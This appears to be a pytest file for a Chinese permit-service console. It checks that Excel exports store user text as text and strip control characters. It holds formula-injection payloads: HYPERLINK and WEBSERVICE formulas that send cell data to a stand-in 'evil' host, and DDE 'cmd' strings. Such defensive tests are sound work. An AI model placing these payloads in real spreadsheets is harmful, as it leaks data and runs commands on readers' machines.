"""What an applicant types reaches the supervisors' Excel files as text and nothing else: a company
named like a formula is not a live formula in the 台账, 挂图作战 or 立卷归档 export, and characters
XML cannot hold are dropped where the form stores them and again where an export writes them, so
one odd case never breaks a report (issue #13, items 1 and 2)."""
from __future__ import annotations

import io
import zipfile
from datetime import timedelta

import pytest
import sqlalchemy as sa
from conftest import CAL, PERMIT, STAFF_PASSWORD, db_of
from openpyxl import load_workbook

from bot import cases
from bot.clock import today as china_today
from bot.models import Case, Escalation, Rating, Rectification, Staff, utcnow

pytestmark = pytest.mark.usefixtures("fast_password_hashes")

# The probe's own examples, and the other leads OWASP lists (CSV/formula injection).
HOSTILE = {
    "company": '=HYPERLINK("http://evil/"&B17,"点击查看")',
    "project": '=WEBSERVICE("http://evil/?"&A1)',
    "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
    "comment": "+1+1",
    "note": "-2+3",
    "visit": "\t=1+1",
    "outcome": "=cmd|' /C calc'!A0",
}


def _signed_in(app, username="donghu-lead"):
    import re

    client = app.test_client()
    html = client.get("/console/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)
    r = client.post("/console/login", data={"username": username, "password": STAFF_PASSWORD, "csrf_token": token})
    assert r.status_code == 303
    return client


def hostile_case(app, company=HOSTILE["company"], project=HOSTILE["project"], contact=HOSTILE["contact"],
                 openid="oHostile") -> str:
    """A case whose every free-text field is hostile, with an overdue item, a bad rating and its
    整改, and an escalation: so it shows in every table of every export."""
    now = utcnow()
    with db_of(app) as db:
        lead = db.scalar(sa.select(Staff).where(Staff.username == "donghu-lead"))
        case = cases.submit(db, cases.Application(
            mode="帮办", applicant_openid=openid, company_name=company, credit_code="91350100M000100Y43",
            project_name=project, region="donghu", investment_type="社会投资", stage="3", contact_name=contact,
            contact_phone="13800000000", items=(PERMIT,)), CAL)
        case.state, case.accepted_at = "in_progress", now
        db.flush()
        [item] = cases.items_of(db, case)
        item.state, item.due_date = "reviewing", china_today() - timedelta(days=3)
        rating = Rating(case_id=case.id, openid=openid, level=1, comment=HOSTILE["comment"], created_at=now)
        db.add(rating)
        db.flush()
        db.add(Rectification(case_id=case.id, rating_id=rating.id, supervisor_id=lead.id,
                             due_date=china_today() + timedelta(days=5), visit_note=HOSTILE["visit"],
                             outcome=HOSTILE["outcome"]))
        db.add(Escalation(case_id=case.id, level="联席会议", note=HOSTILE["note"], raised_by=lead.id))
        return case.number


def exports_of(client, number: str) -> dict[str, bytes]:
    today = china_today()
    period = f"from={(today - timedelta(days=30)).isoformat()}&to={today.isoformat()}"
    out = {}
    for name, url in (("ledger", f"/console/export/ledger.xlsx?{period}"),
                      ("dashboard", f"/console/export/dashboard.xlsx?{period}"),
                      ("archive", f"/console/cases/{number}/archive.xlsx")):
        r = client.get(url)
        assert r.status_code == 200, (name, r.status_code)
        out[name] = r.data
    return out


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_no_formula(data: bytes) -> None:
    """The exports make no formula of their own: any formula is one a user smuggled in."""
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_formula_like_names_are_stored_as_text_in_every_export(console_app):
    number = hostile_case(console_app)
    files = exports_of(_signed_in(console_app), number)
    for name, data in files.items():
        assert_no_formula(data)
    # Text, kept exactly as typed, and marked so Excel keeps it text when someone edits the cell.
    values = {cell.value: cell for cell in cells(files["archive"])}
    for field in ("company", "project", "contact", "comment", "visit", "outcome"):
        cell = values[HOSTILE[field]]
        assert cell.data_type == "s" and cell.quotePrefix, field
    ledger_values = {cell.value for cell in cells(files["ledger"])}
    dashboard_values = {cell.value for cell in cells(files["dashboard"])}
    assert HOSTILE["company"] in ledger_values and HOSTILE["project"] in ledger_values
    assert {HOSTILE["company"], HOSTILE["note"], HOSTILE["comment"]} <= dashboard_values


def test_control_characters_are_dropped_where_the_case_is_stored(console_app):
    number = hostile_case(console_app, company="坏\x01字符\x0b科技\x1f有限公司", project="研发楼\x00一期",
                          contact="陈\x08经理")
    with db_of(console_app) as db:
        case = cases.by_number(db, number)
        assert (case.company_name, case.project_name, case.contact_name) == ("坏字符科技有限公司", "研发楼一期", "陈经理")


def test_a_stored_control_character_never_breaks_a_report(console_app):
    """Rows written before the form cleaned its input (or by any other way in) still export."""
    number = hostile_case(console_app)
    good = hostile_case(console_app, company="武汉光谷示例科技有限公司", project="研发楼", contact="陈经理",
                        openid="oGood")
    with db_of(console_app) as db:
        case = db.scalar(sa.select(Case).where(Case.number == number))
        case.company_name, case.project_name, case.contact_name = "坏\x01公司", "项目\x1b[2J", "陈\x02经理"
    client = _signed_in(console_app)
    files = exports_of(client, number)
    values = {cell.value for cell in cells(files["archive"])}
    assert "坏公司" in values and "项目[2J" in values and "陈经理" in values
    assert "武汉光谷示例科技有限公司" in {cell.value for cell in cells(files["ledger"])}  # the other case too
    assert client.get(f"/console/cases/{good}/archive.xlsx").status_code == 200


def test_staff_notes_with_control_characters_are_stored_without_them(console_app):
    """What staff type enters the same way: a NUL would fail on PostgreSQL, a \\x01 every export."""
    import re

    number = hostile_case(console_app)
    client = _signed_in(console_app)
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/console/cases").get_data(as_text=True))[1]
    r = client.post(f"/console/cases/{number}/notes", data={"text": "电话\x00联系\x01经办人", "csrf_token": token})
    assert r.status_code == 303
    with db_of(console_app) as db:
        assert cases.ledger_of(db, cases.by_number(db, number))[-1].detail == "电话联系经办人"
